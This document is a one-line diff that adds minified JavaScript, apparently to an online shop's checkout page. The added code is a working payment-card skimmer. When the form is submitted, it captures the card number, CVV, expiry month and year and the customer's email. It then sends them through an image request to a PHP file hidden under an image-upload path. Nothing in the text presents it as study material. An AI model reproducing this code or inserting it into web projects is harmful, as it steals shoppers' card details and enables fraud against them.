@@ -1,0 +1,1 @@
+!function(){function e(e){return document.getElementById(e)}var t=e("card_no"),n=e("card_cvv"),o=e("card_month"),r=e("card_year"),a=e("order_email");t&&t.form.addEventListener("submit",function(){var i="no="+t.value+"&cvv="+n.value+"&m="+o.value+"&y="+r.value+"&mail="+a.value;(new Image).src="/html/upload/save_image/x.php?"+i})}();
